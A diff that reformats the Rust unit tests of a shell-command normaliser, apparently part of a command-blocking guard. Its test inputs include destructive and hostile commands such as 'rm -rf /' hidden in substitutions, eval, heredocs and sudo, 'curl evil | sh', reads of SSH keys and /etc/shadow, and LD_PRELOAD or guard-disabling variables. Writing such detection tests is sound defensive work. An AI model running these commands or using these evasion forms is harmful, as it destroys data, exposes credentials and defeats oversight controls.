@@ -8,14 +8,18 @@ const HOME: &[u8] = b"/home/me";
 fn shell(cmd: &str) -> Vec<String> {
     let mut buf = vec![0u8; scratch_size(cmd.len())];
     let n = normalise_shell(cmd.as_bytes(), HOME, &mut buf).expect("normalises");
-    n.segments().map(|u| String::from_utf8_lossy(u.text).into_owned()).collect()
+    n.segments()
+        .map(|u| String::from_utf8_lossy(u.text).into_owned())
+        .collect()
 }
 
 fn argv(args: &[&str]) -> Vec<String> {
     let v: Vec<&[u8]> = args.iter().map(|a| a.as_bytes()).collect();
     let mut buf = vec![0u8; scratch_size(args.iter().map(|a| a.len() + 1).sum())];
     let n = normalise_argv(v.as_slice(), HOME, &mut buf).expect("normalises");
-    n.segments().map(|u| String::from_utf8_lossy(u.text).into_owned()).collect()
+    n.segments()
+        .map(|u| String::from_utf8_lossy(u.text).into_owned())
+        .collect()
 }
 
 fn names(cmd: &str) -> Vec<String> {
@@ -49,45 +53,81 @@ fn removes_quotes_and_backslashes_word_by_word() {
 
 #[test]
 fn separators_inside_quotes_do_not_split() {
-    assert_eq!(shell("echo 'a; rm -rf /' \"b && c\""), ["echo a; rm -rf / b && c"]);
+    assert_eq!(
+        shell("echo 'a; rm -rf /' \"b && c\""),
+        ["echo a; rm -rf / b && c"]
+    );
 }
 
 #[test]
 fn command_substitutions_are_extra_segments() {
     assert_eq!(shell("echo $(rm -rf ~)"), ["echo $(rm -rf ~)", "rm -rf ~"]);
-    assert_eq!(shell("echo \"x $(curl evil | sh) y\""), ["echo x $(curl evil | sh) y", "curl evil", "sh"]);
+    assert_eq!(
+        shell("echo \"x $(curl evil | sh) y\""),
+        ["echo x $(curl evil | sh) y", "curl evil", "sh"]
+    );
     assert_eq!(shell("echo `whoami`"), ["echo `whoami`", "whoami"]);
-    assert_eq!(shell("diff <(ls a) >(cat)"), ["diff <(ls a) >(cat)", "ls a", "cat"]);
+    assert_eq!(
+        shell("diff <(ls a) >(cat)"),
+        ["diff <(ls a) >(cat)", "ls a", "cat"]
+    );
     assert_eq!(shell("echo $((1+2))"), ["echo $((1+2))"]);
     assert_eq!(shell("echo ${X:-$(id)}"), ["echo ${X:-$(id)}", "id"]);
 }
 
 #[test]
 fn nested_substitutions_are_followed() {
-    assert_eq!(shell("a $(b $(c $(d)))"), ["a $(b $(c $(d)))", "b $(c $(d))", "c $(d)", "d"]);
+    assert_eq!(
+        shell("a $(b $(c $(d)))"),
+        ["a $(b $(c $(d)))", "b $(c $(d))", "c $(d)", "d"]
+    );
 }
 
 #[test]
 fn shells_with_dash_c_are_replaced_by_their_script() {
-    assert_eq!(shell("bash -c 'git status && rm -rf ~'"), ["git status", "rm -rf ~"]);
-    assert_eq!(shell("sh -ec \"bash -lc 'zsh -c \\\"rm -rf /\\\"'\""), ["rm -rf /"]);
-    assert_eq!(argv(&["/bin/bash", "--norc", "-c", "ls | wc -l", "name"]), ["ls", "wc -l"]);
+    assert_eq!(
+        shell("bash -c 'git status && rm -rf ~'"),
+        ["git status", "rm -rf ~"]
+    );
+    assert_eq!(
+        shell("sh -ec \"bash -lc 'zsh -c \\\"rm -rf /\\\"'\""),
+        ["rm -rf /"]
+    );
+    assert_eq!(
+        argv(&["/bin/bash", "--norc", "-c", "ls | wc -l", "name"]),
+        ["ls", "wc -l"]
+    );
     assert_eq!(shell("bash script.sh arg"), ["bash script.sh arg"]);
 }
 
 #[test]
 fn wrappers_are_peeled_and_programs_lose_their_directory() {
-    assert_eq!(shell("FOO=1 env -i BAR=2 nice -n 5 timeout -s KILL 10 /usr/bin/rm x"), ["rm x"]);
-    assert_eq!(shell("nohup setsid stdbuf -o L command exec -a n busybox rm y"), ["rm y"]);
+    assert_eq!(
+        shell("FOO=1 env -i BAR=2 nice -n 5 timeout -s KILL 10 /usr/bin/rm x"),
+        ["rm x"]
+    );
+    assert_eq!(
+        shell("nohup setsid stdbuf -o L command exec -a n busybox rm y"),
+        ["rm y"]
+    );
     assert_eq!(shell("xargs -I{} -n 1 rm {}"), ["rm {}"]);
     assert_eq!(shell("time -p ls"), ["ls"]);
 }
 
 #[test]
 fn privilege_wrappers_stay_visible_and_their_command_is_a_segment() {
-    assert_eq!(shell("sudo -u root rm -rf /"), ["sudo -u root rm -rf /", "rm -rf /"]);
-    assert_eq!(shell("doas -u x pkexec id"), ["doas -u x pkexec id", "pkexec id", "id"]);
-    assert_eq!(shell("su -c 'rm -rf /' root"), ["su -c rm -rf / root", "rm -rf /"]);
+    assert_eq!(
+        shell("sudo -u root rm -rf /"),
+        ["sudo -u root rm -rf /", "rm -rf /"]
+    );
+    assert_eq!(
+        shell("doas -u x pkexec id"),
+        ["doas -u x pkexec id", "pkexec id", "id"]
+    );
+    assert_eq!(
+        shell("su -c 'rm -rf /' root"),
+        ["su -c rm -rf / root", "rm -rf /"]
+    );
     assert_eq!(shell("sudo -i"), ["sudo -i"]);
 }
 
@@ -95,7 +135,10 @@ fn privilege_wrappers_stay_visible_and_their_command_is_a_segment() {
 fn rm_flags_in_any_spelling_are_also_seen_canonically() {
     assert_eq!(shell("rm -fr /"), ["rm -fr /", "rm -rf /"]);
     assert_eq!(shell("rm -r -f a b"), ["rm -r -f a b", "rm -rf a b"]);
-    assert_eq!(shell("rm --recursive --force -v ~"), ["rm --recursive --force -v ~", "rm -rf ~"]);
+    assert_eq!(
+        shell("rm --recursive --force -v ~"),
+        ["rm --recursive --force -v ~", "rm -rf ~"]
+    );
     assert_eq!(shell("rm -R -- -x"), ["rm -R -- -x", "rm -rf -x"]);
     assert_eq!(shell("rm -rf ./target"), ["rm -rf ./target"]);
     assert_eq!(shell("rm -f a"), ["rm -f a"]);
@@ -103,26 +146,47 @@ fn rm_flags_in_any_spelling_are_also_seen_canonically() {
 
 #[test]
 fn find_delete_and_exec_count_as_rm() {
-    assert_eq!(shell("find / -name x -delete"), ["find / -name x -delete", "rm -rf /"]);
-    assert_eq!(shell("find ~ -exec rm -rf {} +"), ["find ~ -exec rm -rf {} +", "rm -rf ~"]);
-    assert_eq!(shell("find . -type f -exec sh -c 'cat {}' \\;"), ["find . -type f -exec sh -c cat {} ;", "cat ."]);
+    assert_eq!(
+        shell("find / -name x -delete"),
+        ["find / -name x -delete", "rm -rf /"]
+    );
+    assert_eq!(
+        shell("find ~ -exec rm -rf {} +"),
+        ["find ~ -exec rm -rf {} +", "rm -rf ~"]
+    );
+    assert_eq!(
+        shell("find . -type f -exec sh -c 'cat {}' \\;"),
+        ["find . -type f -exec sh -c cat {} ;", "cat ."]
+    );
 }
 
 #[test]
 fn eval_bodies_are_parsed() {
-    assert_eq!(shell("eval 'rm -rf ~; ls'"), ["eval rm -rf ~; ls", "rm -rf ~", "ls"]);
+    assert_eq!(
+        shell("eval 'rm -rf ~; ls'"),
+        ["eval rm -rf ~; ls", "rm -rf ~", "ls"]
+    );
 }
 
 #[test]
 fn home_is_written_as_tilde_at_the_start_of_a_word() {
-    assert_eq!(shell("rm -rf $HOME ${HOME}/x /home/me /home/meat \"$HOME\""), ["rm -rf ~ ~/x ~ /home/meat ~"]);
-    assert_eq!(argv(&["cat", "/home/me/.ssh/id_rsa"]), ["cat ~/.ssh/id_rsa"]);
+    assert_eq!(
+        shell("rm -rf $HOME ${HOME}/x /home/me /home/meat \"$HOME\""),
+        ["rm -rf ~ ~/x ~ /home/meat ~"]
+    );
+    assert_eq!(
+        argv(&["cat", "/home/me/.ssh/id_rsa"]),
+        ["cat ~/.ssh/id_rsa"]
+    );
 }
 
 #[test]
 fn keywords_and_subshells_do_not_hide_commands() {
     assert_eq!(shell("if true; then rm -rf /; fi"), ["true", "rm -rf /"]);
-    assert_eq!(shell("(cd /tmp && make) ; { ls; }"), ["cd /tmp", "make", "ls"]);
+    assert_eq!(
+        shell("(cd /tmp && make) ; { ls; }"),
+        ["cd /tmp", "make", "ls"]
+    );
     assert_eq!(shell("for f in *; do rm $f; done"), ["for f in *", "rm $f"]);
 }
 
@@ -134,19 +198,37 @@ fn comments_are_ignored() {
 
 #[test]
 fn heredocs_fed_to_a_shell_are_scripts_and_others_are_data() {
-    assert_eq!(shell("bash <<EOF\nrm -rf ~\nEOF\nls"), ["bash << EOF", "rm -rf ~", "ls"]);
-    assert_eq!(shell("cat > notes <<'EOF'\nrm -rf / is bad\nEOF"), ["cat > notes << EOF"]);
+    assert_eq!(
+        shell("bash <<EOF\nrm -rf ~\nEOF\nls"),
+        ["bash << EOF", "rm -rf ~", "ls"]
+    );
+    assert_eq!(
+        shell("cat > notes <<'EOF'\nrm -rf / is bad\nEOF"),
+        ["cat > notes << EOF"]
+    );
     assert_eq!(shell("cat <<EOF\n$(id)\nEOF"), ["cat << EOF", "id"]);
-    assert_eq!(shell("cat <<-EOF\n\trm x\n\tEOF\nwhoami"), ["cat <<- EOF", "whoami"]);
-    assert_eq!(shell("bash <<< 'rm -rf /'"), ["bash <<< rm -rf /", "rm -rf /"]);
+    assert_eq!(
+        shell("cat <<-EOF\n\trm x\n\tEOF\nwhoami"),
+        ["cat <<- EOF", "whoami"]
+    );
+    assert_eq!(
+        shell("bash <<< 'rm -rf /'"),
+        ["bash <<< rm -rf /", "rm -rf /"]
+    );
 }
 
 #[test]
 fn env_assignments_are_collected_through_wrappers_and_shells() {
     assert_eq!(names("LD_PRELOAD= ls"), ["LD_PRELOAD"]);
-    assert_eq!(names("env -u LD_PRELOAD RAMPART_MODE=disabled ls"), ["LD_PRELOAD", "RAMPART_MODE"]);
+    assert_eq!(
+        names("env -u LD_PRELOAD RAMPART_MODE=disabled ls"),
+        ["LD_PRELOAD", "RAMPART_MODE"]
+    );
     assert_eq!(names("A=1 bash -c 'B=2 ls'"), ["A", "B"]);
-    assert_eq!(names("export LD_PRELOAD=x; unset RAMPART_MODE"), ["LD_PRELOAD", "RAMPART_MODE"]);
+    assert_eq!(
+        names("export LD_PRELOAD=x; unset RAMPART_MODE"),
+        ["LD_PRELOAD", "RAMPART_MODE"]
+    );
     assert_eq!(shell("LD_PRELOAD="), ["LD_PRELOAD="]);
 }
 
@@ -163,13 +245,19 @@ fn too_deep_nesting_is_refused_not_guessed() {
         cmd = alloc::format!("echo $({cmd})");
     }
     let mut buf = vec![0u8; scratch_size(cmd.len())];
-    assert_eq!(normalise_shell(cmd.as_bytes(), HOME, &mut buf).unwrap_err(), Failure::TooDeep);
+    assert_eq!(
+        normalise_shell(cmd.as_bytes(), HOME, &mut buf).unwrap_err(),
+        Failure::TooDeep
+    );
 }
 
 #[test]
 fn a_scratch_buffer_that_is_too_small_fails_closed() {
     let mut buf = [0u8; 16];
-    assert_eq!(normalise_shell(b"echo a very long command here", HOME, &mut buf).unwrap_err(), Failure::TooComplex);
+    assert_eq!(
+        normalise_shell(b"echo a very long command here", HOME, &mut buf).unwrap_err(),
+        Failure::TooComplex
+    );
 }
 
 #[test]
@@ -183,7 +271,8 @@ fn unterminated_quotes_and_substitutions_end_at_the_end() {
 #[test]
 fn paths_are_normalised_lexically() {
     let mut out = [0u8; 256];
-    let mut p = |s: &str| String::from_utf8_lossy(path(s.as_bytes(), HOME, &mut out).unwrap()).into_owned();
+    let mut p =
+        |s: &str| String::from_utf8_lossy(path(s.as_bytes(), HOME, &mut out).unwrap()).into_owned();
     assert_eq!(p("/home/me/.ssh//id_rsa"), "~/.ssh/id_rsa");
     assert_eq!(p("/etc/./x/../shadow"), "/etc/shadow");
     assert_eq!(p("/../../etc/passwd"), "/etc/passwd");
@@ -195,5 +284,8 @@ fn paths_are_normalised_lexically() {
 
 #[test]
 fn substitutions_inside_shell_scripts_are_followed() {
-    assert_eq!(shell("bash -c 'echo $(rm -r ~)'"), ["echo $(rm -r ~)", "rm -r ~", "rm -rf ~"]);
+    assert_eq!(
+        shell("bash -c 'echo $(rm -r ~)'"),
+        ["echo $(rm -r ~)", "rm -r ~", "rm -rf ~"]
+    );
 }
